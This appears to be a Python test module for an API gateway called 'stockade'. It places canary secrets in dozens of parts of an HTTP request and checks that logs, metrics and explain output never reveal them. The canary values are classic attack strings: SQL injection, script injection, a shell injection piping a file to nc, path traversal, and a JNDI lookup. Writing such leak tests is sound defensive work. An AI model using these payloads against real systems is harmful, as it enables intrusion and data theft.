"""Every place of a request in which a secret can stand, and a policy that complains of what stands there."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.sax.saxutils import escape, quoteattr

import msgspec

from stockade.cli.explain import _as_dict
from stockade.config import build, load_text
from stockade.engine import REQUEST_HEAD, RequestBody, drive, open_session, refuse_unread
from stockade.gateway.dry_run import DryRun
from stockade.journal.metrics import Metrics
from stockade.vocabulary import Record, Stop
from stockade.wire import BadRequest, Headers, Peer, Request, read_request

JSON, FORM, XML = "application/json", "application/x-www-form-urlencoded", "application/xml"
PARTS = "multipart/form-data; boundary=frontier"
# Passwords, all of them; each has the canary where an excerpt would begin, and where it would end.
MARK = "kanari"
SECRETS = {
    "sql": "' UNION SELECT kanari FROM kanari WHERE 'kanari'='kanari' --",
    "script": "<script>kanari(document.kanari)</script><img src=kanari onerror=kanari()>",
    "shell": ";cat /etc/kanari|nc kanari 4711;$(kanari)",
    "path": "../../../../etc/kanari/../kanari",
    "lookup": "${jndi:ldap://kanari/kanari}",
    "bytes": "kanari\x01\x7f\x02\xa0kanari",
}


@dataclass(frozen=True)
class Sent:
    method: str = "GET"
    target: str = "/things"
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""

    def request(self) -> Request | BadRequest:
        return read_request(
            id="canary",
            at=1_700_000_000.0,
            method=self.method,
            scheme="http",
            authority="shop.example",
            target=self.target,
            headers=Headers.of((("host", "shop.example"), *self.headers)),
            peer=Peer("192.0.2.9"),
            version="HTTP/1.1",
            has_body=bool(self.body),
        )


def posted(kind: str, body: str | bytes, target: str = "/things") -> Sent:
    data = body.encode() if isinstance(body, str) else body
    return Sent("POST", target, (("content-type", kind), ("content-length", str(len(data)))), data)


def part(name: str, content: str, more: str = "") -> str:
    return f'--frontier\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{content}\r\n'


def multipart(*parts: str) -> Sent:
    return posted(PARTS, "".join(parts) + "--frontier--\r\n")


def header(name: str, value: str) -> Sent:
    return Sent(headers=((name, value.replace("\x01", "").replace("\x7f", "").replace("\x02", "")),))


def graphql(secret: str) -> Sent:
    literal = json.dumps(secret)
    return posted(JSON, json.dumps({"query": f"mutation {{ login(password: {literal}) }}"}))


PLACES: dict[str, Callable[[str], Sent]] = {
    "query argument": lambda secret: Sent(target=f"/things?q=1&password={quote(secret)}&z=2"),
    "query argument, encoded name": lambda secret: Sent(target=f"/things?p%61ssword={quote(secret)}"),
    "query argument in brackets": lambda secret: Sent(target=f"/things?user%5Bpin%5D={quote(secret)}"),
    "query argument within another": lambda secret: Sent(target=f"/things?next={quote('/x?access_token=' + secret)}"),
    "path parameter": lambda secret: Sent(target=f"/things;jsessionid={quote(secret, safe='')}"),
    "form field": lambda secret: posted(FORM, f"user=ann&passwd={quote(secret)}"),
    "form field in camel case": lambda secret: posted(FORM, f"newPassword={quote(secret)}&user=ann"),
    "form field with JSON": lambda secret: posted(FORM, f"data={quote(json.dumps({'client_secret': secret}))}"),
    "JSON member": lambda secret: posted(JSON, json.dumps({"user": "ann", "apiKey": secret})),
    "nested JSON member": lambda secret: posted(JSON, json.dumps({"user": {"login": {"otp": secret}}})),
    "member within a secret one": lambda secret: posted(JSON, json.dumps({"credentials": {"value": secret}})),
    "JSON array member": lambda secret: posted(JSON, json.dumps({"tokens": ["a", secret]})),
    "JSON of an array": lambda secret: posted(JSON, json.dumps([{"cvv": secret}])),
    "JSON pair": lambda secret: posted(JSON, json.dumps({"fields": [{"name": "password", "value": secret}]})),
    "JSON in JSON": lambda secret: posted(JSON, json.dumps({"raw": json.dumps({"password": secret})})),
    "broken JSON": lambda secret: posted(JSON, json.dumps({"password": secret})[:-1]),
    "JSON as a form": lambda secret: posted(FORM, json.dumps({"password": secret})),
    "JSON as a form, in pieces": lambda secret: posted(FORM, json.dumps({"password": f"a&{secret}={secret}&b"})),
    "JSON as text": lambda secret: posted("text/plain", json.dumps({"password": secret})),
    "GraphQL": graphql,
    "multipart part": lambda secret: multipart(part("user", "ann"), part("password", secret)),
    "multipart file": lambda secret: multipart(part("private_key", secret, '; filename="id_rsa"')),
    "name of a file": lambda secret: multipart(part("token", "x", f'; filename="{secret.replace(chr(34), "")}"')),
    "multipart, broken off": lambda secret: posted(PARTS, part("password", secret)),
    "XML element": lambda secret: posted(XML, f"<login><user>ann</user><password>{_xml(secret)}</password></login>"),
    "XML attribute": lambda secret: posted(XML, f"<login user='ann' pin={quoteattr(_xml(secret, False))}/>"),
    "XML with a prefix": lambda secret: posted(XML, f"<s:a xmlns:s='urn:s'><s:Secret>{_xml(secret)}</s:Secret></s:a>"),
    "XML as text": lambda secret: posted("text/plain", f"<login><password>{_xml(secret)}</password></login>"),
    "cookie": lambda secret: header("cookie", f"theme=dark; anything={secret.replace(';', '')}"),
    "cookie without a name": lambda secret: header("cookie", secret.replace(";", "").replace("=", "")),
    "header": lambda secret: header("x-api-key", secret),
    "header by the policy": lambda secret: header("x-shop-pass-phrase-of-the-day", secret),
    "header the policy names": lambda secret: header("x-plain", secret),
    "Authorization": lambda secret: header("authorization", f"Bearer {secret}"),
    "Authorization without a scheme": lambda secret: header("authorization", secret.replace(" ", "")),
    "Basic": lambda secret: header(
        "authorization", "Basic " + base64.b64encode(f"{secret}:{secret}".encode()).decode()
    ),
    "Referer": lambda secret: header("referer", f"https://shop.example/reset?token={secret}"),
}


def _xml(secret: str, escaped: bool = True) -> str:
    plain = secret.replace("\x01", "").replace("\x02", "")
    return escape(plain) if escaped else plain


class World:
    """One API by a policy, asked without a network; nothing of it is a double."""

    def __init__(self, folder: Path, **sections: Any) -> None:
        api = {"name": "shop", "upstream": {"url": "http://127.0.0.1:9"}, "limits": [], **sections}
        policy = {
            "version": 1,
            "listen": [{"address": "127.0.0.1:8080"}],
            "log": {"headers": ["referer", "user-agent"]},
            "apis": [api],
        }
        loaded = load_text(json.dumps(policy), folder / "stockade.yaml", {})
        self._run = DryRun(loaded, build(loaded))
        self._metrics = Metrics()

    def close(self) -> None:
        self._run.close()

    def record(self, sent: Sent) -> Record:
        request = sent.request()
        if isinstance(request, BadRequest):
            session, stop = refuse_unread(self._run.policy, request.request, request.trouble)
            return session.close(stop.response.status, 1.0)
        session = open_session(self._run.policy, request)
        verdict = drive(session.receive(REQUEST_HEAD), self._run._answers.answer)
        if session.reads_request_body:
            verdict = drive(session.receive(RequestBody(sent.body)), self._run._answers.answer)
        record = session.close(verdict.response.status if isinstance(verdict, Stop) else 200, 1.0)
        self._metrics.count(record, 0.001)
        return record

    def told(self, sent: Sent) -> tuple[Record, str]:
        """The record, and all that is written of the request: log, metrics, `explain`."""
        record, request = self.record(sent), sent.request()
        if isinstance(request, BadRequest):
            decision = self._run.refuse(request)
        else:
            decision = self._run.decide(request, sent.body)
        written = [
            msgspec.json.encode(record),
            msgspec.json.encode(self._metrics.snapshot()),
            msgspec.json.encode(_as_dict(decision)),
        ]
        return record, b"\n".join(written).decode()
